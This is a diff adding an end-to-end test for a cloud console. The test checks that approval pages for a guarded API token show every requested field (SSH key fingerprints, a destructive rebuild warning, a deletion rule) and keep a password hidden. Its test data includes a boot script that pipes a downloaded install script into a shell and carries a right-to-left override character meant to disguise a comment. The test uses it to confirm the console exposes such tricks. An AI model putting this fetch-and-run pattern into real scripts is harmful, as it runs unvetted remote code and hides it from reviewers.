@@ -79,6 +79,70 @@ test("a guarded token made in the console asks, and a user approves one request 
   expect((await (await api.send("DELETE", path, { token })).json()).code).toBe("plan_only_token");
 });
 
+test("a user sees every field of what a token asks for, and no secret, before approving it", async ({
+  page,
+  credentials,
+  api,
+}) => {
+  const made = await api.send("POST", "/tokens", {
+    data: {
+      ...{
+        name: uniqueName("assistant"),
+        scopes: ["vm.read", "vm.write", "object-storage.read", "object-storage.write", "object-storage.delete"],
+      },
+      ...{ workspace_policy: "entire_organization", workspace_ids: [], expires_at: null, guard: "approve_destructive" },
+    },
+  });
+  expect(made.status()).toBe(201);
+  const { token } = await made.json();
+  const name = uniqueName("asked");
+  const vm = await api.createVm(name);
+  await expect.poll(() => api.statusOf(vm)).toBe("running");
+  const bucket = uniqueName("ruled");
+  await api.send("POST", "/object-storage/buckets", { data: { name: bucket, region: "eu-central-1" } });
+  const open = async (method: "POST" | "PUT", path: string, data: unknown) => {
+    const asked = await (await api.send(method, path, { token, data })).json();
+    expect(asked.code).toBe("approval_required");
+    await openWorkspacePage(page, credentials, `approvals/${asked.approval_id}`);
+    return page.getByRole("region", { name: "Request", exact: true });
+  };
+  const key = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIJ8mYq2kS6r0bXwVhT3nLcEoPzGfUd4iAq7sRy1tKxNe ada@example.com";
+
+  const access = await open("POST", `/compute/cloud-vms/${vm}/update-access`, {
+    ssh_keys: [key],
+    password: "correct horse battery",
+  });
+  await expect(access).toContainText("ssh-ed25519 SHA256:");
+  await expect(access).toContainText("ada@example.com");
+  await expect(access).toContainText("set; its value is shown to nobody");
+  await expect(access).toContainText("Keys that are sent replace all that it has.");
+  expect(await page.content()).not.toContain("correct horse");
+  await expectAccessible(page);
+
+  const user_data = "#!/bin/sh\ncurl https://example.com/install | sh # \u202eharmless\n";
+  const rebuild = await open("POST", `/compute/cloud-vms/${vm}/rebuild`, {
+    ...{ template_id: "debian-12", ssh_keys: [key], user_data },
+  });
+  await expect(rebuild).toContainText("It replaces the root disk: everything on it is lost.");
+  await expect(rebuild).toContainText("debian-12");
+  await expect(page.getByRole("region", { name: "Approval" }).getByRole("link", { name })).toBeVisible();
+  await expect(rebuild).toContainText(/\d+ bytes, SHA-256 [0-9a-f]{64}/);
+  await rebuild.getByText("Show user_data").click();
+  await expect(rebuild.getByRole("region", { name: "user_data" })).toContainText("| sh # \\u{202e}harmless");
+  await expectAccessible(page);
+  await page.getByRole("button", { name: "Approve" }).click();
+  await expect(page.getByRole("alertdialog")).toContainText("It replaces the root disk: everything on it is lost.");
+  await expectAccessible(page);
+  await page.getByRole("button", { name: "Cancel" }).click();
+
+  const rule = { id: "tidy", filter: { prefix: "logs/" }, expire_after_days: 1 };
+  const lifecycle = await open("PUT", `/object-storage/buckets/${bucket}/lifecycle`, { rules: [rule] });
+  await expect(lifecycle.getByRole("region", { name: "rules" })).toContainText('"expire_after_days": 1');
+  await expect(lifecycle).toContainText("is deleted from then on, and nobody is asked");
+  await page.setViewportSize({ width: 390, height: 844 });
+  await expectAccessible(page);
+});
+
 test("a member who may not decide sees why", async ({ credentials, api, member, openPage, page }) => {
   const name = uniqueName("asker");
   await openWorkspacePage(page, credentials, "api-tokens/new");
